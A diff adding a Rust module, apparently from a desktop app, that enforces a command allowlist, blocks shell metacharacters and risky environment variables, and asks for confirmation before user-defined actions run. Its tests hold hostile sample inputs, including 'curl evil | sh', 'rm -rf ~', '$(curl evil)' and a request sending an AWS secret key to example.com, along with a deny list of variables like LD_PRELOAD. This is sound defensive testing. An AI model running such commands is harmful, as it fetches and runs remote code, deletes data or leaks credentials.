@@ -0,0 +1,320 @@
+use std::{
+    ffi::OsStr,
+    path::{Path, PathBuf},
+};
+
+use tauri_plugin_dialog::{DialogExt, MessageDialogButtons, MessageDialogKind};
+
+use crate::{
+    config::Config,
+    core::handle::Handle,
+    feat::action::ActionOutput,
+    logging,
+    schema::{Action, ActionType, HttpRequest, TrustLevel},
+    utils::logging::Type,
+};
+
+/// 设置了允许列表时命令中不能出现的 shell 特殊字符，否则可以在允许的程序之后串联其他命令
+const SHELL_METACHARACTERS: &[char] = &[';', '&', '|', '<', '>', '$', '`', '\n', '\r'];
+
+/// 设置了允许列表时动作可以设置的环境变量，其余变量（如 LD_PRELOAD、BASH_ENV、GIT_SSH_COMMAND）
+/// 都能让允许的程序加载或执行任意代码
+const SAFE_ENV_KEYS: &[&str] = &["LANG", "LANGUAGE", "TZ", "TERM", "NO_COLOR", "COLUMNS", "LINES"];
+
+fn is_safe_env_key(key: &str) -> bool {
+    SAFE_ENV_KEYS.iter().any(|safe| key.eq_ignore_ascii_case(safe)) || key.to_ascii_uppercase().starts_with("LC_")
+}
+
+/// 命令中要执行的程序，即第一个以空白分隔的部分，以引号开头时取到对应的结束引号为止
+fn executable(command: &str) -> Option<&str> {
+    let command = command.trim_start();
+    let quote = command.chars().next().filter(|c| matches!(c, '"' | '\''));
+    let program = match quote {
+        Some(quote) => {
+            let rest = &command[1..];
+            &rest[..rest.find(quote)?]
+        }
+        None => command.split_whitespace().next()?,
+    };
+    (!program.is_empty()).then_some(program)
+}
+
+/// 在 `path` 列出的目录中查找程序，Windows 下未写扩展名时按常见的可执行扩展名查找
+fn find_in_path(name: &str, path: Option<&OsStr>) -> Option<PathBuf> {
+    let candidates: Vec<String> = if cfg!(windows) && Path::new(name).extension().is_none() {
+        [".exe", ".cmd", ".bat", ".com"]
+            .iter()
+            .map(|ext| format!("{}{}", name, ext))
+            .collect()
+    } else {
+        vec![name.to_string()]
+    };
+    std::env::split_paths(path?)
+        .flat_map(|dir| candidates.iter().map(move |candidate| dir.join(candidate)))
+        .find(|candidate| candidate.is_file())
+}
+
+/// 程序实际对应的文件：带路径时按工作目录解析，否则在 `path` 中查找
+fn resolve_program(program: &str, cwd: Option<&str>, path: Option<&OsStr>) -> Option<PathBuf> {
+    if !program.contains(['/', '\\']) {
+        return find_in_path(program, path);
+    }
+    let program = Path::new(program);
+    Some(match cwd {
+        Some(cwd) if program.is_relative() => Path::new(cwd).join(program),
+        _ => program.to_path_buf(),
+    })
+}
+
+/// 允许列表为空时不做限制；条目可以是完整路径，或按系统 PATH 查找的程序名。
+/// 设置了允许列表时动作只能设置 [`SAFE_ENV_KEYS`] 中的环境变量，PATH 等变量无法用来替换程序
+fn check_allowlist(action: &Action, allowlist: &[String], system_path: Option<&OsStr>) -> Result<(), String> {
+    if allowlist.is_empty() {
+        return Ok(());
+    }
+    if let Some(c) = action.command.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
+        return Err(format!("命令中包含特殊字符 {:?}，设置了允许列表时不能使用", c));
+    }
+    if let Some(key) = action.env.iter().flatten().map(|(key, _)| key).find(|key| !is_safe_env_key(key)) {
+        return Err(format!("设置了允许列表时不能设置环境变量 {}", key));
+    }
+    let program = executable(&action.command).ok_or("命令为空")?;
+    let Some(resolved) = resolve_program(program, action.cwd.as_deref(), system_path) else {
+        return Err(format!("找不到命令 {}", program));
+    };
+    let allowed = allowlist
+        .iter()
+        .map(|entry| entry.trim())
+        .filter(|entry| !entry.is_empty())
+        .any(|entry| {
+            if entry.contains(['/', '\\']) {
+                Path::new(entry) == resolved
+            } else {
+                find_in_path(entry, system_path).is_some_and(|path| path == resolved)
+            }
+        });
+    if allowed {
+        Ok(())
+    } else {
+        Err(format!("命令 {} 不在允许列表中", resolved.display()))
+    }
+}
+
+/// 确认弹窗中展示的内容：命令动作为完整命令行，请求动作为请求方法与地址（未替换变量，可以看到会发送哪些环境变量）
+fn describe(action: &Action) -> (&'static str, String) {
+    if matches!(ActionType::try_from(action.typ.as_str()), Ok(ActionType::Http)) {
+        let target = match HttpRequest::parse(&action.command) {
+            Ok(request) => {
+                let mut target = format!("{} {}", request.method, request.url);
+                if let Some(body) = request.body.filter(|body| !body.is_empty()) {
+                    target.push('\n');
+                    target.push_str(&body);
+                }
+                target
+            }
+            Err(_) => action.command.clone(),
+        };
+        return ("发送以下请求", target);
+    }
+    let mut command_line = action.command.clone();
+    for arg in action.args.iter().flatten() {
+        command_line.push(' ');
+        command_line.push_str(arg);
+    }
+    ("执行以下命令", command_line)
+}
+
+/// 弹窗询问是否执行，没有窗口环境或关闭弹窗时视为拒绝
+async fn confirm(action: &Action) -> bool {
+    let Some(app_handle) = Handle::global().app_handle() else {
+        return false;
+    };
+    let (verb, target) = describe(action);
+    let (tx, rx) = tokio::sync::oneshot::channel();
+    app_handle
+        .dialog()
+        .message(format!("动作「{}」将{}：\n{}", action.name, verb, target))
+        .title("确认执行动作")
+        .kind(MessageDialogKind::Warning)
+        .buttons(MessageDialogButtons::OkCancelCustom(
+            "执行".to_string(),
+            "取消".to_string(),
+        ))
+        .show(move |confirmed| {
+            let _ = tx.send(confirmed);
+        });
+    rx.await.unwrap_or(false)
+}
+
+/// 按动作的执行策略检查命令与请求动作能否执行，命令动作还需要通过允许列表
+pub async fn authorize_action(action: &Action) -> Result<(), ActionOutput> {
+    if matches!(ActionType::try_from(action.typ.as_str()), Ok(ActionType::Command)) {
+        let allowlist = Config::global()
+            .lock()
+            .command_allowlist
+            .clone()
+            .unwrap_or_default();
+        if let Err(reason) = check_allowlist(action, &allowlist, std::env::var_os("PATH").as_deref()) {
+            let error = format!("{}，已拒绝执行动作 {}", reason, action.name);
+            logging!(warn, Type::Cmd, true, "{}", error);
+            return Err(ActionOutput::error(error));
+        }
+    }
+
+    match action.trust.unwrap_or_default() {
+        TrustLevel::Always => Ok(()),
+        TrustLevel::Deny => {
+            let error = format!("动作 {} 已设置为禁止执行", action.name);
+            logging!(warn, Type::Cmd, true, "{}", error);
+            Err(ActionOutput::error(error))
+        }
+        TrustLevel::Confirm => {
+            if confirm(action).await {
+                logging!(info, Type::Cmd, true, "已确认执行动作 {}: {}", action.name, action.command);
+                Ok(())
+            } else {
+                let error = format!("未确认执行动作 {}", action.name);
+                logging!(warn, Type::Cmd, true, "{}", error);
+                Err(ActionOutput::error(error))
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// 在临时目录下创建 `system/` 与 `other/` 两个 PATH 目录，各放一个同名的 git
+    fn fake_path() -> (PathBuf, std::ffi::OsString) {
+        let dir = std::env::temp_dir().join(crate::utils::help::get_uid("ducker-policy"));
+        for sub in ["system", "other"] {
+            std::fs::create_dir_all(dir.join(sub)).unwrap();
+            for name in ["git", "git.exe", "backup.sh"] {
+                std::fs::write(dir.join(sub).join(name), "").unwrap();
+            }
+        }
+        let path = std::env::join_paths([dir.join("system")]).unwrap();
+        (dir, path)
+    }
+
+    fn command(command: &str) -> Action {
+        Action {
+            name: "测试".to_string(),
+            typ: "command".to_string(),
+            command: command.to_string(),
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn allowlist_matches_full_path_or_file_name() {
+        let (dir, path) = fake_path();
+        let backup = dir.join("system").join("backup.sh").display().to_string();
+        let allowlist = vec!["git".to_string(), backup.clone()];
+        let check = |action: &Action| check_allowlist(action, &allowlist, Some(&path));
+
+        assert!(check_allowlist(&command("rm -rf /tmp/x"), &[], Some(&path)).is_ok());
+        assert!(check(&command("git pull --rebase")).is_ok());
+        assert!(check(&command("\"git\" log")).is_ok());
+        // 带空格的路径需要加引号
+        let spaced = dir.join("Program Files");
+        std::fs::create_dir_all(&spaced).unwrap();
+        std::fs::write(spaced.join("tool.exe"), "").unwrap();
+        let spaced = spaced.join("tool.exe").display().to_string();
+        let spaced_allowlist = vec![spaced.clone()];
+        let quoted = command(&format!("\"{}\" --version", spaced));
+        assert!(check_allowlist(&quoted, &spaced_allowlist, Some(&path)).is_ok());
+        assert_eq!(executable(&format!("'{}' x", spaced)), Some(spaced.as_str()));
+        assert_eq!(executable("\"unterminated"), None);
+        let system_git = find_in_path("git", Some(&path)).unwrap().display().to_string();
+        assert!(check(&command(&format!("{} status", system_git))).is_ok());
+        assert!(check(&command(&format!("{} --full", backup))).is_ok());
+        // 按 PATH 找到的正是允许的文件
+        assert!(check(&command("backup.sh")).is_ok());
+
+        // 同名但不是允许的那个文件
+        let other_git = find_in_path("git", Some(&std::env::join_paths([dir.join("other")]).unwrap()));
+        assert!(check(&command(&format!("{} status", other_git.unwrap().display()))).is_err());
+        assert!(check(&command("rm -rf /tmp/x")).is_err());
+        assert!(check(&command("   ")).is_err());
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[test]
+    fn allowlist_rejects_chained_commands_and_env_overrides() {
+        let (dir, path) = fake_path();
+        let allowlist = vec!["git".to_string()];
+        let check = |action: &Action| check_allowlist(action, &allowlist, Some(&path));
+
+        for chained in [
+            "git status; curl evil | sh",
+            "git && rm -rf ~",
+            "git $(curl evil)",
+            "git `id`",
+            "git status\nrm -rf ~",
+            "git log > /etc/profile",
+        ] {
+            let err = check(&command(chained)).unwrap_err();
+            assert!(err.contains("特殊字符"), "{}: {}", chained, err);
+        }
+
+        // 只能设置不影响程序行为的环境变量，PATH、LD_PRELOAD 等都会被拒绝
+        for key in ["PATH", "Path", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "GIT_SSH_COMMAND", "GIT_EXEC_PATH"] {
+            let action = Action {
+                env: Some([(key.to_string(), dir.join("other").display().to_string())].into()),
+                ..command("git status")
+            };
+            let err = check(&action).unwrap_err();
+            assert!(err.contains(key), "{}", err);
+        }
+        let action = Action {
+            env: Some([("LANG".to_string(), "C".to_string()), ("LC_ALL".to_string(), "C".to_string())].into()),
+            ..command("git status")
+        };
+        assert!(check(&action).is_ok());
+        // 相对路径按动作的工作目录解析
+        let action = Action {
+            cwd: Some(dir.join("other").display().to_string()),
+            ..command("./git status")
+        };
+        assert!(check(&action).is_err());
+        let action = Action {
+            cwd: Some(dir.join("system").display().to_string()),
+            ..command(if cfg!(windows) { "./git.exe status" } else { "./git status" })
+        };
+        assert!(check(&action).is_ok());
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn trust_level_applies_to_http_actions() {
+        let request = Action {
+            name: "上报".to_string(),
+            typ: "http".to_string(),
+            command: r#"{"url":"https://example.com/?key={{env.AWS_SECRET_ACCESS_KEY}}","method":"POST","body":"{{env.HOME}}"}"#
+                .to_string(),
+            ..Default::default()
+        };
+        assert_eq!(
+            describe(&request),
+            (
+                "发送以下请求",
+                "POST https://example.com/?key={{env.AWS_SECRET_ACCESS_KEY}}\n{{env.HOME}}".to_string()
+            )
+        );
+
+        for trust in [TrustLevel::Deny, TrustLevel::Confirm] {
+            let action = Action {
+                trust: Some(trust),
+                ..request.clone()
+            };
+            assert!(authorize_action(&action).await.is_err(), "{:?}", trust);
+        }
+        let trusted = Action {
+            trust: Some(TrustLevel::Always),
+            ..request
+        };
+        assert!(authorize_action(&trusted).await.is_ok());
+    }
+}